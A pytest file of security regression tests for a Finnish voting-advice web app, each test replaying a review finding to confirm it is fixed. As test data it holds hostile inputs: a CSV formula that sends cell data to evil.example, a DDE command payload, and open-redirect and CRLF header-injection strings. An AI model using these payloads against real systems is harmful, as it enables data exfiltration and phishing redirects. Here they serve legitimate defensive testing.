"""The outside security review (issue 16): each finding as the attack that must now fail.

Memory exhaustion by unique parameters is in test_caches.py (in-process) and test_production.py (the real
server); the fuzz tests (test_fuzz.py) reach every form, the organisation's publish route included.
"""

from __future__ import annotations

import re
import threading
from datetime import timedelta
from types import SimpleNamespace

import pytest
from gunicorn.config import Config

from tests.builders import PASSWORD, login, make_candidate, make_election, make_user
from vaalikone.db import connect
from vaalikone.domain import accounts
from vaalikone.matching import voting
from vaalikone.web.accesslog import PathOnlyLogger


@pytest.fixture
def db_path(app):
    return app.config["DATABASE"]


def invitation_page(client, token: str) -> int:
    return client.get(f"/kutsu/{token}").status_code


def accept(client, token: str, password: str) -> int:
    return client.post(
        f"/kutsu/{token}", data={"password": password, "confirm": password}
    ).status_code


# Finding 2: invitation links take over accounts.


def test_a_leftover_invitation_link_stops_working_when_a_new_one_is_made(app, db):
    token = accounts.create_organisation_user(db, "soste", "jasen@example.fi", days=14, name="S")
    user_id = db.execute("SELECT id FROM user WHERE email = 'jasen@example.fi'").fetchone()[0]
    with accounts.writing(db):
        newer = accounts.create_invitation(db, user_id, 14)
    client = app.test_client()
    assert invitation_page(client, token) == 404
    assert accept(client, token, "varastettu-salasana") == 404
    assert (
        db.execute("SELECT password_hash FROM user WHERE id = ?", [user_id]).fetchone()[0] is None
    )
    assert accept(client, newer, "oma-salasana-123") == 302


def test_a_leftover_invitation_link_stops_working_once_one_is_accepted(app, db):
    token = accounts.create_organisation_user(db, "soste", "jasen@example.fi", days=14, name="S")
    user_id = db.execute("SELECT id FROM user WHERE email = 'jasen@example.fi'").fetchone()[0]
    # A second live link, as older versions left behind for every "create invitation links".
    leftover = "leftover-token-from-an-earlier-round"
    db["invitation"].insert(
        {
            "token_hash": accounts.token_digest(leftover),
            "user_id": user_id,
            "created_at": accounts.now(),
            "expires_at": "2999-01-01T00:00:00+00:00",
        }
    )
    db.conn.commit()
    assert accept(app.test_client(), token, "oma-salasana-123") == 302
    stranger = app.test_client()
    assert invitation_page(stranger, leftover) == 404
    assert accept(stranger, leftover, "varastettu-salasana") == 404
    login_page = stranger.post(
        "/kirjaudu", data={"email": "jasen@example.fi", "password": "oma-salasana-123"}
    )
    assert login_page.status_code == 302


def test_two_requests_racing_with_one_invitation_token_cannot_both_set_a_password(app, db):
    token = accounts.create_organisation_user(db, "soste", "jasen@example.fi", days=14, name="S")
    start = threading.Barrier(2)
    codes: dict[str, int] = {}

    def visitor(password: str) -> None:
        client = app.test_client()  # each thread its own client and its own database connection
        start.wait()
        codes[password] = accept(client, token, password)

    threads = [threading.Thread(target=visitor, args=(p,)) for p in ("ensimmainen-1", "toinen-222")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(codes.values()) == [302, 404]
    winner = next(p for p, code in codes.items() if code == 302)
    ok = app.test_client().post("/kirjaudu", data={"email": "jasen@example.fi", "password": winner})
    assert ok.status_code == 302


# Finding 3: formula injection in the CSV downloads.

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Lue lisää")'


def test_csv_downloads_neutralise_formulas_and_the_json_stays_verbatim(app, db):
    make_election(db, published=True)
    cid = make_candidate(db, first_name="+cmd|' /C calc'!A0", last_name="@SUM(1+1)")
    db["answer"].insert(
        {
            "candidate_id": cid,
            "question_id": "free-premises",
            "value": 5,
            "justification_fi": FORMULA,
        }
    )
    db["organisation"].insert({"id": "o", "name_fi": "O", "name_sv": "O", "name_en": "O"})
    db["organisation_goal"].insert(
        {"organisation_id": "o", "question_id": "free-premises", "position": 5, "weight": 1.0}
    )
    make_user(db, "o@example.fi", "organisation", organisation_id="o")
    db.conn.commit()
    client = app.test_client()
    open_data = client.get("/api/v1/elections/kunta-2029/answers.csv").get_data(as_text=True)
    assert "'=HYPERLINK(" in open_data and ",=HYPERLINK(" not in open_data
    assert ",'+cmd|" in open_data and ",'@SUM(1+1)" in open_data
    as_json = client.get("/api/v1/elections/kunta-2029/answers.json").get_json()
    assert as_json["candidates"][0]["justifications_fi"]["free-premises"] == FORMULA
    login(client, "o@example.fi")
    report = client.get("/jarjesto/raportti/kunta-2029.csv?vaalipiiri=kunta-2029:179")
    assert report.status_code == 200
    text = report.get_data(as_text=True)
    assert "'+cmd|" in text and ",+cmd" not in text


# Finding 4: open redirect after log-in.


@pytest.mark.parametrize(
    "target",
    [
        "/%09/evil.example",
        "/%0D%0ALocation:%20http://evil.example",
        "/%5Cevil.example",
        "//evil.example",
    ],
)
def test_log_in_never_redirects_off_site_nor_fails(app, db, target):
    make_election(db)
    make_candidate(db)
    db.conn.commit()
    response = app.test_client().post(
        f"/kirjaudu?next={target}", data={"email": "ehdokas2@example.fi", "password": PASSWORD}
    )
    assert response.status_code == 302
    assert response.headers["Location"] == "/ehdokas/"


def test_log_in_still_returns_to_a_page_of_this_site(app, db):
    make_election(db)
    make_candidate(db)
    db.conn.commit()
    response = app.test_client().post(
        "/kirjaudu?next=/ehdokas/esikatselu",
        data={"email": "ehdokas2@example.fi", "password": PASSWORD},
    )
    assert response.headers["Location"] == "/ehdokas/esikatselu"


# Finding 5: the costliest anonymous requests are cached and limited.


def test_open_data_is_built_once_per_data_version(demo_app, demo_client):
    url = "/api/v1/elections/kunta-2025/answers.csv"
    first = demo_client.get(url).get_data()
    assert len(demo_app.extensions["vaalikone.exports"]) == 1
    assert demo_client.get(url).get_data() == first
    db = connect(demo_app.config["DATABASE"])
    cid = db.execute(
        "SELECT candidate_id FROM answer a JOIN candidate c ON c.id = a.candidate_id "
        "WHERE c.election_id = 'kunta-2025' LIMIT 1"
    ).fetchone()[0]
    db.execute(
        "UPDATE answer SET justification_fi = 'Uusi perustelu 16' WHERE candidate_id = ?", [cid]
    )
    db.conn.commit()
    db.conn.close()
    assert "Uusi perustelu 16" in demo_client.get(url).get_data(as_text=True)


def test_voter_pages_and_exports_are_rate_limited(make_app, db):
    app = make_app(
        RATELIMIT_ENABLED=True, VOTER_RATE_LIMIT="3 per minute", EXPORT_RATE_LIMIT="2 per minute"
    )
    make_election(db, published=True)
    db.conn.commit()
    client = app.test_client()
    assert [client.get("/menetelma").status_code for _ in range(4)] == [200, 200, 200, 429]
    export = "/api/v1/elections/kunta-2029/answers.json"
    assert [client.get(export).status_code for _ in range(3)] == [200, 200, 429]


# Finding 6: the answer deadline means Finnish time, across daylight-saving changes.


@pytest.mark.parametrize(
    ("kind", "typed", "stored"),
    [
        ("kunta", "2029-03-24T16:00", "2029-03-24T14:00:00+00:00"),  # winter time, +02:00
        (
            "alue",
            "2029-03-26T16:00",
            "2029-03-26T13:00:00+00:00",
        ),  # summer time from 25 March, +03:00
    ],
)
def test_an_answer_deadline_is_stored_as_the_instant_of_that_helsinki_time(
    app, db, kind, typed, stored
):
    make_user(db, "admin@example.fi", "admin")
    db.conn.commit()
    client = app.test_client()
    login(client, "admin@example.fi")
    response = client.post(
        "/yllapito/vaalit",
        data={
            "kind": kind,
            "date": "2029-04-08",
            "answer_deadline": typed,
            "name_fi": "Vaalit",
            "name_sv": "Val",
            "name_en": "Election",
        },
    )
    assert response.status_code == 302
    election_id = f"{kind}-2029"
    deadline = db.execute(
        "SELECT answer_deadline FROM election WHERE id = ?", [election_id]
    ).fetchone()[0]
    assert deadline == stored
    page = client.get(f"/yllapito/vaalit/{election_id}").get_data(as_text=True)
    assert typed.replace("T", " ") in page


# Finding 7: log-in attempts per account hold across workers (here: two apps on one database).


def test_an_account_gets_five_log_in_attempts_a_minute_across_workers(make_app, db):
    first, second = (make_app(RATELIMIT_ENABLED=True, WTF_CSRF_ENABLED=False) for _ in range(2))
    make_election(db)
    make_candidate(db)
    db.conn.commit()
    codes = []
    for attempt in range(6):
        worker = (first, second)[attempt % 2]
        codes.append(
            worker.test_client()
            .post("/kirjaudu", data={"email": "ehdokas2@example.fi", "password": "arvaus"})
            .status_code
        )
    assert codes == [200] * 5 + [429]
    refused = second.test_client().post(
        "/kirjaudu", data={"email": "Ehdokas2@example.fi", "password": PASSWORD}
    )
    assert refused.status_code == 429 and "minuutin" in refused.get_data(as_text=True)
    other = first.test_client().post(
        "/kirjaudu", data={"email": "toinen@example.fi", "password": "arvaus"}
    )
    assert other.status_code == 200


def test_gunicorn_listens_only_on_loopback_unless_told_otherwise(monkeypatch):
    # With PROXY_COUNT=1 the app trusts one X-Forwarded-For hop: only nginx on the same machine may
    # reach gunicorn, or a client could choose its own address (and rate-limit key).
    from pathlib import Path

    monkeypatch.delenv("VAALIKONE_BIND", raising=False)
    settings: dict = {}
    exec((Path(__file__).parent.parent / "gunicorn.conf.py").read_text(), settings)
    assert settings["bind"].startswith("127.0.0.1:")


# Finding 8: a second tab never silently overwrites the first.


def opened_versions(html: str) -> dict[str, str]:
    return dict(re.findall(r'name="(b-[^"]+)" value="([0-9a-f]{16})"', html))


def test_two_tabs_merge_per_statement_and_a_clash_keeps_both_texts(app, db):
    make_election(db)
    cid = make_candidate(db)
    db.conn.commit()
    client = app.test_client()
    login(client, "ehdokas2@example.fi")
    tab_a = opened_versions(client.get("/ehdokas/").get_data(as_text=True))
    tab_b = dict(tab_a)  # the same form, opened in a second tab
    saved_a = client.post(
        "/ehdokas/",
        data={**tab_a, "a-free-premises": "5", "jfi-free-premises": "Tab A:n perustelu"},
    )
    assert saved_a.status_code == 302
    # Tab B changes another statement only: tab A's answer stays.
    saved_b = client.post("/ehdokas/", data={**tab_b, "a-market-rent": "2"})
    assert saved_b.status_code == 302

    def answer(qid: str):
        return db.execute(
            "SELECT value, justification_fi FROM answer WHERE candidate_id = ? AND question_id = ?",
            [cid, qid],
        ).fetchone()

    assert answer("free-premises") == (5, "Tab A:n perustelu")
    assert answer("market-rent") == (2, None)
    # Tab B then changes the statement tab A changed: refused, what B typed is kept on the page beside A's.
    clash = client.post(
        "/ehdokas/",
        data={
            **tab_b,
            "a-market-rent": "2",
            "a-free-premises": "1",
            "jfi-free-premises": "Tab B:n perustelu",
        },
    )
    page = clash.get_data(as_text=True)
    assert clash.status_code == 409
    assert "muuttui toisessa ikkunassa" in page
    assert "Tab B:n perustelu" in page and "Tab A:n perustelu" in page
    assert answer("free-premises") == (5, "Tab A:n perustelu")
    # Saving again from that page keeps B's version: the candidate chose it, having seen A's.
    again = client.post(
        "/ehdokas/",
        data={
            **opened_versions(page),
            "a-market-rent": "2",
            "a-free-premises": "1",
            "jfi-free-premises": "Tab B:n perustelu",
        },
    )
    assert again.status_code == 302
    assert answer("free-premises") == (1, "Tab B:n perustelu")


# Finding 9: sessions.


def csrf_in_session(client) -> str | None:
    with client.session_transaction() as session:
        return session.get("csrf_token")


def test_log_in_starts_a_new_session_with_a_new_csrf_token(make_app, db):
    app = make_app(WTF_CSRF_ENABLED=True)
    make_election(db)
    make_candidate(db)
    db.conn.commit()
    client = app.test_client()
    page = client.get("/kirjaudu").get_data(as_text=True)
    token = re.search(r'name="csrf_token" (?:type="hidden" )?value="([^"]+)"', page).group(1)
    before = csrf_in_session(client)
    response = client.post(
        "/kirjaudu",
        data={"csrf_token": token, "email": "ehdokas2@example.fi", "password": PASSWORD},
    )
    assert response.status_code == 302
    client.get("/ehdokas/")
    after = csrf_in_session(client)
    assert before and after and before != after


def copied(client, app):
    thief = app.test_client()
    thief.set_cookie("session", client.get_cookie("session").value)
    return thief


@pytest.mark.parametrize("ending", ["log-out", "password change", "deactivation"])
def test_a_copied_session_cookie_stops_working(app, db, ending):
    make_user(db, "admin@example.fi", "admin")
    db.conn.commit()
    client = app.test_client()
    login(client, "admin@example.fi")
    thief = copied(client, app)
    assert thief.get("/yllapito/").status_code == 200
    if ending == "log-out":
        assert client.post("/kirjaudu-ulos").status_code == 302
    elif ending == "password change":
        result = app.test_cli_runner().invoke(
            args=["create-admin", "admin@example.fi", "--password", "uusi-salasana-123"]
        )
        assert result.exit_code == 0, result.output
    else:
        result = app.test_cli_runner().invoke(args=["deactivate-user", "admin@example.fi"])
        assert result.exit_code == 0, result.output
    response = thief.get("/yllapito/")
    assert response.status_code == 302 and "/kirjaudu" in response.headers["Location"]


# Finding 10: the access log keeps route templates, never tokens or the candidates a voter opened.


def test_the_access_log_keeps_neither_invitation_tokens_nor_opened_candidates(tmp_path):
    log = tmp_path / "access.log"
    config = Config()
    config.set("accesslog", str(log))
    logger = PathOnlyLogger(config)
    for method, path in (("GET", "/kutsu/S3cr3t-t0ken"), ("POST", "/ehdokkaat/4242")):
        logger.access(
            SimpleNamespace(status_code=200, sent=10),
            SimpleNamespace(method=method, path=path),
            {"REMOTE_ADDR": "192.0.2.7"},
            timedelta(milliseconds=3),
        )
    for handler in logger.access_log.handlers:
        handler.flush()
    text = log.read_text()
    assert '"GET /kutsu/<token>"' in text and '"POST /ehdokkaat/<id>"' in text
    assert "S3cr3t" not in text and "4242" not in text


# Finding 11: the language switcher passes on only the page's own parameters.


def test_a_crafted_query_does_not_break_the_language_switcher(demo_client):
    response = demo_client.get("/menetelma?_method=POST&_external=1&_anchor=x")
    assert response.status_code == 200
    quiz = demo_client.get("/vaalit?kunta=091&junk=1").get_data(as_text=True)
    assert "kunta=091" in quiz and "junk" not in quiz


# Smaller items.


def test_an_organisation_publishes_reports_of_published_elections_only(app, db):
    make_election(db, published=True)
    make_election(db, "alue-2029", "alue")
    db["organisation"].insert({"id": "o", "name_fi": "O", "name_sv": "O", "name_en": "O"})
    make_user(db, "o@example.fi", "organisation", organisation_id="o")
    db.conn.commit()
    client = app.test_client()
    login(client, "o@example.fi")
    for election in ("no-such-election", "alue-2029"):
        response = client.post(f"/jarjesto/raportti/{election}/julkaisu")
        assert response.status_code == 404
        assert "ei ole vielä julkaistu" in response.get_data(as_text=True)
    assert db.execute("SELECT count(*) FROM report_publication").fetchone()[0] == 0
    # A published election's report: first the confirmation with its summary, then the publication.
    assert client.post("/jarjesto/raportti/kunta-2029/julkaisu").status_code == 200
    confirmed = client.post("/jarjesto/raportti/kunta-2029/julkaisu", data={"confirm": "1"})
    assert confirmed.status_code == 302
    assert db.execute("SELECT count(*) FROM report_publication").fetchone()[0] == 1


def test_api_errors_do_not_reveal_statements_of_unpublished_elections(app, db):
    make_election(db, published=True)
    make_election(db, "eduskunta-2031", "eduskunta")
    db["question"].insert(
        {"id": "secret-plan", "theme_id": "tilat", "kinds": None, "text_fi": "Salainen"}
    )
    db["election_question"].insert({"election_id": "eduskunta-2031", "question_id": "secret-plan"})
    db.conn.commit()
    client = app.test_client()
    known = client.post(
        "/api/v1/match", json={"municipality": "179", "answers": {"secret-plan": 3}}
    ).get_json()["error"]
    made_up = client.post(
        "/api/v1/match", json={"municipality": "179", "answers": {"made-up-id": 3}}
    ).get_json()["error"]
    assert known == made_up.replace("made-up-id", "secret-plan")


def test_the_api_sets_no_cookie(app):
    response = app.test_client().get("/api/v1/municipalities?lang=sv")
    assert response.status_code == 200
    assert response.headers.get_all("Set-Cookie") == []


def test_logged_in_pages_and_their_csv_are_not_stored(app, db):
    make_election(db, published=True)
    make_candidate(db)
    db["organisation"].insert({"id": "o", "name_fi": "O", "name_sv": "O", "name_en": "O"})
    make_user(db, "o@example.fi", "organisation", organisation_id="o")
    db.conn.commit()
    client = app.test_client()
    login(client, "ehdokas2@example.fi")
    assert client.get("/ehdokas/").headers["Cache-Control"] == "no-store"
    org = app.test_client()
    login(org, "o@example.fi")
    for url in ("/jarjesto/", "/jarjesto/raportti/kunta-2029.csv"):
        assert org.get(url).headers.get("Cache-Control") == "no-store", url


@pytest.mark.parametrize("weight", [5e-324, 0.001, -0.0001])
def test_an_api_weight_is_zero_or_at_least_a_hundredth(demo_client, weight):
    response = demo_client.post(
        "/api/v1/match",
        json={
            "municipality": "091",
            "answers": {"free-premises": 5},
            "weights": {"free-premises": weight},
        },
    )
    assert response.status_code == 400 and "0,01" in response.get_json()["error"]


# Finding 1, the part outside the matching store: what visitors type into the candidate search.


def test_the_candidate_search_text_is_not_remembered(demo_client):
    def search(text: str) -> None:
        data = {"kunta": "091", "a-free-premises": "5", "q-kunta-2025": text}
        assert demo_client.post("/tulokset", data=data).status_code == 200

    search("Virtanen")  # the page's own first visit remembers the candidates' names
    before = voting.collation_key.cache_info().currsize
    for i in range(30):
        search(f"haku {i} " + "x" * 90)
    assert voting.collation_key.cache_info().currsize == before
